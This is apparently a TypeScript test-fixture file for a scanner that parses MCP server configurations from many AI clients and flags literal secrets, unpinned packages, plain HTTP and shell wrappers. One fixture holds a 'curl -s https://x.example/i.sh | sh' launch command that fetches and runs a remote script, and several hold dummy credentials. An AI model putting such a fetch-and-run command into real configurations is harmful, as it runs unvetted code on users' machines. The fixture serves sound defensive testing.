import { type FileSample, TOKEN } from "./file-samples-json.ts";

const json = (value: unknown) => JSON.stringify(value, null, 2);
const servers = (value: unknown) => json({ mcpServers: value });
const DIGEST = `sha256:${"0123456789abcdef".repeat(4)}`;

/** Files in other syntaxes, launches behind wrappers, and shapes that no client documents. */
export const ODD_SAMPLES: FileSample[] = [
  {
    about: "Codex: tables, inline tables, quoted names, named variables",
    file: "config.toml",
    text: `model = "o4"
[mcp_servers.github]
command = "npx"
args = ["-y", "@scope/github@1.2.0"]
env = { GITHUB_TOKEN = "${TOKEN}" }
env_vars = ["GITHUB_HOST"]
startup_timeout_sec = 20
[mcp_servers.remote]
url = "https://h.example/mcp"
bearer_token_env_var = "T"
http_headers = { X-Team = "core" }
env_http_headers = { X-Api-Key = "API_KEY" }
enabled = false
[mcp_servers."with space"]
command = 'C:\\tools\\server.exe'
[mcp_servers."with space".env]
MODE = 'fast'
`,
    expected: {
      client: "codex",
      servers: [
        {
          name: "github",
          identity: "npm:@scope/github",
          version: "1.2.0",
          command: "npx",
          env: ["GITHUB_HOST reference", "GITHUB_TOKEN secret"],
          findings: ["literal-secret env.GITHUB_TOKEN"],
        },
        {
          name: "remote",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
          headers: ["X-Team literal", "X-Api-Key reference", "Authorization reference"],
          disabled: true,
        },
        {
          name: "with space",
          identity: "command:server",
          command: "C:\\tools\\server.exe",
          env: ["MODE literal"],
        },
      ],
      notes: [/“startup_timeout_sec” was not read/],
    },
  },
  {
    about: "Codex without servers",
    file: "list_codex.toml",
    text: 'model = "o4"\n[profiles.fast]\nmodel = "o4-mini"\n',
    expected: { client: "codex", servers: [] },
  },
  {
    about: "TOML under a name that says nothing, with dotted keys",
    file: "fixture-20.txt",
    text: '# ours\nmcp_servers.a.command = "uvx"\nmcp_servers.a.args = ["s"]\n',
    expected: {
      client: "codex",
      servers: [{ name: "a", identity: "pypi:s", command: "uvx", findings: ["unpinned args"] }],
    },
  },
  {
    about: "Mistral Vibe's list of tables",
    file: "fixture-21.toml",
    text: `[[mcp_servers]]
name = "a"
transport = "streamable-http"
url = "https://h.example/mcp"
api_key_env = "A_KEY"
[[mcp_servers]]
name = "b"
transport = "stdio"
command = "uvx"
args = ["s==2.0"]
`,
    expected: {
      client: "mistral-vibe",
      servers: [
        {
          name: "a",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
          headers: ["Authorization reference"],
        },
        { name: "b", identity: "pypi:s", version: "2.0", command: "uvx" },
      ],
    },
  },
  {
    about: "Goose: cmd, envs, keys in the keyring, parts of its own",
    file: "fixture-22.yaml",
    text: `GOOSE_PROVIDER: x
extensions:
  developer: { type: builtin, name: developer, enabled: true }
  fetch:
    type: stdio
    name: Fetch
    cmd: uvx
    args: [mcp-server-fetch]
    envs: { MODE: fast }
    env_keys: [FETCH_TOKEN]
    enabled: false
  web: { type: streamable_http, uri: "https://h.example/mcp", headers: { Authorization: "Bearer ${TOKEN}" } }
`,
    expected: {
      client: "goose",
      servers: [
        {
          name: "fetch",
          identity: "pypi:mcp-server-fetch",
          command: "uvx",
          env: ["MODE literal", "FETCH_TOKEN reference"],
          disabled: true,
          findings: ["unpinned args"],
        },
        {
          name: "web",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
          headers: ["Authorization secret"],
          findings: ["literal-secret headers.Authorization"],
        },
      ],
      notes: [/“developer” is a part of Goose/],
    },
  },
  {
    about: "Continue's list",
    file: "list_continue-dev.yml",
    text: `name: ours
version: 0.0.1
schema: v1
mcpServers:
  - name: SQLite
    command: uvx
    args:
      - mcp-server-sqlite
      - --db-path
      - /home/ada/test.db
    env:
      KEY: \${{ secrets.KEY }}
  - name: remote
    type: streamable-http
    url: https://h.example/mcp
    requestOptions: { headers: { Authorization: "Bearer \${{ secrets.T }}" } }
  - uses: us/them
`,
    expected: {
      client: "continue",
      servers: [
        {
          name: "SQLite",
          identity: "pypi:mcp-server-sqlite",
          command: "uvx",
          env: ["KEY reference"],
          findings: ["unpinned args"],
        },
        {
          name: "remote",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
          headers: ["Authorization reference"],
        },
      ],
      notes: [/takes this server from a hub/],
    },
  },
  {
    about: "LibreChat: a value of each person in a header",
    file: "librechat.yaml",
    text: `version: 1.2.1
mcpServers:
  a:
    type: streamable-http
    url: https://h.example/mcp
    headers:
      X-User-ID: "{{LIBRECHAT_USER_ID}}"
      Authorization: "Bearer {{A_KEY}}"
    customUserVars:
      A_KEY: { title: Key }
  b:
    command: npx
    args: [-y, "p@1.0.0"]
    env: { B_KEY: "\${B_KEY}" }
`,
    expected: {
      client: "librechat",
      scope: "project",
      servers: [
        {
          name: "a",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
          headers: ["X-User-ID reference", "Authorization reference"],
        },
        { name: "b", identity: "npm:p", version: "1.0.0", command: "npx", env: ["B_KEY reference"] },
      ],
    },
  },
  {
    about: "YAML without a telling name, anchors and merged keys",
    file: "fixture-23",
    text: `base: &base
  command: npx
  env: { A_TOKEN: "${TOKEN}" }
mcpServers:
  one: { <<: *base, args: [-y, one@1.0.0] }
  two:
    <<: *base
    args: ["-y", "two"]
`,
    expected: {
      client: "librechat",
      servers: [
        {
          name: "one",
          identity: "npm:one",
          version: "1.0.0",
          command: "npx",
          env: ["A_TOKEN secret"],
          findings: ["literal-secret env.A_TOKEN"],
        },
        {
          name: "two",
          identity: "npm:two",
          command: "npx",
          env: ["A_TOKEN secret"],
          findings: ["literal-secret env.A_TOKEN", "unpinned args"],
        },
      ],
    },
  },
  {
    about: "bridges to remote servers",
    file: "fixture-24.json",
    text: servers({
      plain: { command: "npx", args: ["-y", "mcp-remote", "https://mcp.linear.app/sse"] },
      header: {
        command: "npx",
        args: ["mcp-remote@0.1.18", "http://h.example/mcp", "--header", `Authorization: Bearer ${TOKEN}`],
        env: { AUTH_HEADER: `Bearer ${TOKEN}` },
      },
      gateway: { command: "npx", args: ["-y", "supergateway", "--sse", "https://h.example/sse"] },
      python: { command: "uvx", args: ["mcp-proxy", "https://h.example/sse"] },
    }),
    expected: {
      client: "cursor",
      servers: [
        {
          name: "plain",
          identity: "remote:https://mcp.linear.app/sse",
          url: "https://mcp.linear.app/sse",
          command: "npx",
          findings: ["unpinned args"],
        },
        {
          name: "header",
          identity: "remote:http://h.example/mcp",
          url: "http://h.example/mcp",
          command: "npx",
          env: ["AUTH_HEADER secret"],
          findings: ["literal-secret args.3", "literal-secret env.AUTH_HEADER", "plain-http args.1"],
        },
        {
          name: "gateway",
          identity: "remote:https://h.example/sse",
          url: "https://h.example/sse",
          command: "npx",
          findings: ["unpinned args"],
        },
        {
          name: "python",
          identity: "remote:https://h.example/sse",
          url: "https://h.example/sse",
          command: "uvx",
          findings: ["unpinned args"],
        },
      ],
      notes: [/“plain” is a local program \(npm:mcp-remote\) that passes everything/],
    },
  },
  {
    about: "shells and other wrappers",
    file: "fixture-25.json",
    text: servers({
      login: { command: "bash", args: ["-lc", "cd ~/x && npx -y pkg@1.0.0 --stdio"] },
      hidden: { command: "sh", args: ["-c", "curl -s https://x.example/i.sh | sh"] },
      windows: { command: "cmd", args: ["/c", "npx", "-y", "@s/p"] },
      line: { command: "npx -y pkg2@2.0.0" },
      env: { command: "/usr/bin/env", args: ["A=1", "uvx", "tool==1.0"] },
      vault: { command: "op", args: ["run", "--", "docker", "run", "-i", "mcp/time"] },
    }),
    expected: {
      client: "cursor",
      servers: [
        {
          name: "login",
          identity: "npm:pkg",
          version: "1.0.0",
          command: "bash",
          findings: ["shell-wrapper command"],
        },
        {
          name: "hidden",
          identity: "command:sh -c curl -s https://x.example/i.sh | sh",
          command: "sh",
          findings: ["shell-wrapper command"],
        },
        { name: "windows", identity: "npm:@s/p", command: "cmd", findings: ["unpinned args"] },
        { name: "line", identity: "npm:pkg2", version: "2.0.0", command: "npx -y pkg2@2.0.0" },
        { name: "env", identity: "pypi:tool", version: "1.0", command: "/usr/bin/env" },
        {
          name: "vault",
          identity: "oci:docker.io/mcp/time",
          command: "op",
          findings: ["unpinned args"],
        },
      ],
      notes: [/“login” is started through bash -lc, npx\./],
    },
  },
  {
    about: "containers: variables, mounts, tags, digests, ports of a registry",
    file: "fixture-26.json",
    text: servers({
      gh: {
        command: "docker",
        args: [
          "run",
          "-i",
          "--rm",
          "-e",
          "GITHUB_PERSONAL_ACCESS_TOKEN",
          "ghcr.io/github/github-mcp-server:v0.5.0",
        ],
        env: { GITHUB_PERSONAL_ACCESS_TOKEN: "<YOUR_TOKEN>" },
      },
      inline: {
        command: "docker",
        args: ["run", "--rm", "-e", `TOKEN=${TOKEN}`, "-v", "/home/ada:/data", "mcp/x"],
      },
      pinned: { command: "podman", args: ["run", "--network=none", `localhost:5000/t/s@${DIGEST}`] },
      gateway: { command: "docker", args: ["mcp", "gateway", "run", "--profile", "p"] },
    }),
    expected: {
      client: "cursor",
      servers: [
        {
          name: "gh",
          identity: "oci:ghcr.io/github/github-mcp-server",
          version: "v0.5.0",
          command: "docker",
          env: ["GITHUB_PERSONAL_ACCESS_TOKEN placeholder"],
          findings: ["unpinned args"],
        },
        {
          name: "inline",
          identity: "oci:docker.io/mcp/x",
          command: "docker",
          findings: ["literal-secret args.3", "unpinned args", "home-mounted args.5"],
        },
        {
          name: "pinned",
          identity: "oci:localhost:5000/t/s",
          version: DIGEST,
          command: "podman",
        },
        { name: "gateway", identity: "command:docker mcp gateway run", command: "docker" },
      ],
    },
  },
  {
    about: "Python in its many ways",
    file: "fixture-27.json",
    text: servers({
      module: { command: "python3.12", args: ["-m", "my_server", "--port", "1"] },
      script: { command: "uv", args: ["--directory", "/home/ada/dev/weather", "run", "weather.py"] },
      extra: { command: "uvx", args: ["--from", "My_Pkg[cli]==1.0", "the-bin"] },
      git: { command: "uvx", args: ["--from", "git+https://github.com/o/r@main", "serve"] },
      venv: { command: "/home/ada/dev/w/.venv/bin/python", args: ["/home/ada/dev/w/server.py"] },
    }),
    expected: {
      client: "cursor",
      servers: [
        { name: "module", identity: "command:python -m my_server", command: "python3.12" },
        { name: "script", identity: "command:python weather/weather.py", command: "uv" },
        { name: "extra", identity: "pypi:my-pkg", version: "1.0", command: "uvx" },
        {
          name: "git",
          identity: "command:uvx git+https://github.com/o/r@main",
          command: "uvx",
          findings: ["unpinned args"],
        },
        { name: "venv", identity: "command:python w/server.py", command: "~/dev/w/.venv/bin/python" },
      ],
    },
  },
  {
    about: "versions that pin and those that do not",
    file: "fixture-28.json",
    text: servers({
      exact: { command: "npx", args: ["-y", "p@1.2.3-beta.1"] },
      tag: { command: "npx", args: ["-y", "p@next"] },
      range: { command: "npx", args: ["-y", "p@^1.2.0"] },
      major: { command: "yarn", args: ["dlx", "p@1"] },
      alias: { command: "npx", args: ["-y", "a@npm:@real/p@4.0.0"] },
      flag: { command: "npx", args: ["--package=@s/p@1.0.0", "bin"] },
      npm: { command: "npm", args: ["exec", "-y", "--", "@s/p@1.2.3"] },
      pyrange: { command: "uvx", args: ["tool>=1.0"] },
    }),
    expected: {
      client: "cursor",
      servers: [
        { name: "exact", identity: "npm:p", version: "1.2.3-beta.1", command: "npx" },
        { name: "tag", identity: "npm:p", command: "npx", findings: ["unpinned args"] },
        { name: "range", identity: "npm:p", command: "npx", findings: ["unpinned args"] },
        { name: "major", identity: "npm:p", command: "yarn", findings: ["unpinned args"] },
        { name: "alias", identity: "npm:@real/p", version: "4.0.0", command: "npx" },
        { name: "flag", identity: "npm:@s/p", version: "1.0.0", command: "npx" },
        { name: "npm", identity: "npm:@s/p", version: "1.2.3", command: "npm" },
        { name: "pyrange", identity: "pypi:tool", command: "uvx", findings: ["unpinned args"] },
      ],
    },
  },
  {
    about: "Windows: paths, a byte order mark, line ends",
    file: "claude_desktop_config.json",
    text: `\ufeff{\r\n  "globalShortcut": "",\r\n  "mcpServers": {\r\n    "fs": { "command": "C:\\\\Program Files\\\\nodejs\\\\npx.cmd", "args": ["-y", "@modelcontextprotocol/server-filesystem", "C:\\\\Users\\\\ada\\\\Desktop"] },\r\n    "own": { "command": "C:\\\\Users\\\\ada\\\\bin\\\\own.exe", "args": [] }\r\n  }\r\n}\r\n`,
    expected: {
      client: "claude-desktop",
      servers: [
        {
          name: "fs",
          identity: "npm:@modelcontextprotocol/server-filesystem",
          command: "C:\\Program Files\\nodejs\\npx.cmd",
          findings: ["unpinned args"],
        },
        { name: "own", identity: "command:own", command: "~\\bin\\own.exe" },
      ],
    },
  },
  {
    about: "what stands for a secret and what is one",
    file: "fixture-29.json",
    text: servers({
      a: {
        command: "a-server",
        env: {
          GITHUB_TOKEN: TOKEN,
          API_KEY: "hunter2secret",
          PLACE_KEY: "YOUR_API_KEY",
          CUT_KEY: "[REDACTED_API_KEY]",
          EMPTY_KEY: "",
          REF_KEY: "${REF_KEY}",
          PORT: "8080",
          NUMBER: 5,
          DEBUG: true,
          KEY_FILE: "/etc/key.pem",
          DATABASE_URL: "postgres://u:hunter2secret@db.example/x",
        },
      },
      b: {
        url: `https://h.example/mcp?token=${TOKEN}`,
        headers: { Authorization: "Basic dXNlcjpodW50ZXIy" },
      },
    }),
    expected: {
      client: "cursor",
      servers: [
        {
          name: "a",
          identity: "command:a-server",
          command: "a-server",
          env: [
            "GITHUB_TOKEN secret",
            "API_KEY secret",
            "PLACE_KEY placeholder",
            "CUT_KEY placeholder",
            "EMPTY_KEY placeholder",
            "REF_KEY reference",
            "PORT literal",
            "NUMBER literal",
            "DEBUG literal",
            "KEY_FILE literal",
            "DATABASE_URL secret",
          ],
          findings: [
            "literal-secret env.GITHUB_TOKEN",
            "literal-secret env.API_KEY",
            "literal-secret env.DATABASE_URL",
          ],
        },
        {
          name: "b",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp?token=•••",
          headers: ["Authorization secret"],
          findings: ["literal-secret url", "literal-secret headers.Authorization"],
        },
      ],
    },
  },
  {
    about: "shapes that are wrong in every way: each is told, what can be read is read",
    file: "fixture-30.json",
    text: `{ "mcpServers": {
  "null": null, "text": "npx -y pkg", "list": [], "empty": {}, "number": 7,
  "args": { "command": "npx", "args": "-y pkg@1.0.0" },
  "words": { "command": ["npx", "-y", "pkg@2.0.0"] },
  "numbers": { "command": "x-server", "args": ["--port", 8080, null, true] },
  "envlist": { "command": "y-server", "env": ["A_TOKEN=${TOKEN}", "B"] },
  "envpairs": { "command": "z-server", "env": [{ "name": "C_KEY", "value": "hunter2secret" }] },
  "envtext": { "command": "w-server", "env": "A=1" },
  "flag": { "command": "v-server", "disabled": "true" },
  "type": { "command": "u-server", "type": "websocket" },
  "nested": { "url": "https://h.example/mcp", "transport": { "type": "sse" } },
  "both": { "command": "t-server", "url": "https://h.example/mcp" },
  "twice": { "command": "old-server" },
  "twice": { "command": "new-server" }
} }`,
    expected: {
      client: "cursor",
      servers: [
        { name: "args", identity: "npm:pkg", version: "1.0.0", command: "npx" },
        { name: "words", identity: "npm:pkg", version: "2.0.0", command: "npx" },
        { name: "numbers", identity: "command:x-server", command: "x-server" },
        {
          name: "envlist",
          identity: "command:y-server",
          command: "y-server",
          env: ["A_TOKEN secret", "B reference"],
          findings: ["literal-secret env.A_TOKEN"],
        },
        {
          name: "envpairs",
          identity: "command:z-server",
          command: "z-server",
          env: ["C_KEY secret"],
          findings: ["literal-secret env.C_KEY"],
        },
        { name: "envtext", identity: "command:w-server", command: "w-server" },
        { name: "flag", identity: "command:v-server", command: "v-server", disabled: true },
        { name: "type", identity: "command:u-server", command: "u-server" },
        {
          name: "nested",
          identity: "remote:https://h.example/mcp",
          transport: "sse",
          url: "https://h.example/mcp",
        },
        { name: "both", identity: "command:t-server", command: "t-server" },
        { name: "twice", identity: "command:new-server", command: "new-server" },
      ],
      notes: [
        /key mcpServers\.null: /,
        /key mcpServers\.text: /,
        /key mcpServers\.list: /,
        /key mcpServers\.empty: /,
        /key mcpServers\.number: /,
        /key mcpServers\.words\.command: text was expected, a list was found; it is read/,
        /key mcpServers\.envlist\.env: /,
        /key mcpServers\.envtext\.env: /,
        /key mcpServers\.twice: the name stands here more than once/,
      ],
    },
  },
  {
    about: "a list where most write an object",
    file: "fixture-32.json",
    text: json({
      mcpServers: [
        { name: "a", command: "a-server" },
        { id: "b", url: "https://h.example/mcp" },
      ],
    }),
    expected: {
      client: "continue",
      servers: [
        { name: "a", identity: "command:a-server", command: "a-server" },
        {
          name: "b",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
        },
      ],
    },
  },
  {
    about: "a list for a client that reads none: nothing is concluded",
    file: "list_cursor.json",
    text: json({ mcpServers: [{ name: "a", command: "a-server" }] }),
    client: "cursor",
    expected: {
      client: "cursor",
      servers: [],
      notes: [/key mcpServers: an object of servers was expected, a list was found/],
    },
  },
  {
    about: "another client's spelling under a plain file",
    file: "list_lm-studio.json",
    text: servers({
      a: { httpUrl: "https://h.example/mcp" },
      b: { serverUrl: "https://h.example/b", requestOptions: { headers: { "X-Key": "hunter2secret" } } },
      c: { cmd: "uvx", args: ["s==1.0"], environment: { A_KEY: "${A_KEY}" } },
      d: { uri: "https://h.example/d", type: "streamable_http" },
    }),
    expected: {
      client: "lm-studio",
      servers: [
        {
          name: "a",
          identity: "remote:https://h.example/mcp",
          transport: "http",
          url: "https://h.example/mcp",
        },
        {
          name: "b",
          identity: "remote:https://h.example/b",
          transport: "http",
          url: "https://h.example/b",
          headers: ["X-Key secret"],
          findings: ["literal-secret headers.X-Key"],
        },
        {
          name: "c",
          identity: "pypi:s",
          version: "1.0",
          command: "uvx",
          env: ["A_KEY reference"],
        },
        {
          name: "d",
          identity: "remote:https://h.example/d",
          transport: "http",
          url: "https://h.example/d",
        },
      ],
      notes: [/“httpUrl” is how other clients write it/],
    },
  },
  {
    about: "no servers at all",
    file: "list_kiro.json",
    text: '{ "mcpServers": {}, "foo": true }',
    expected: { client: "kiro", servers: [], notes: [/“foo” stands beside the servers/] },
  },
  {
    about: "servers under two keys: the file's own is read, the other is told",
    file: "acme__shop__.mcp.json",
    text: json({
      mcpServers: { a: { command: "a-server" } },
      servers: { b: { command: "b-server" } },
    }),
    expected: {
      client: "claude-code",
      scope: "project",
      servers: [{ name: "a", identity: "command:a-server", command: "a-server" }],
      notes: [/“servers” stands beside the servers and was not read/],
    },
  },
  {
    about: "the servers twice: the last are read, as every client does",
    file: "fixture-31.json",
    text: '{ "mcpServers": { "a": { "command": "a-server" } }, "mcpServers": { "b": { "command": "b-server" } } }',
    expected: {
      client: "cursor",
      servers: [{ name: "b", identity: "command:b-server", command: "b-server" }],
      notes: [/key mcpServers: the key stands here more than once/],
    },
  },
];
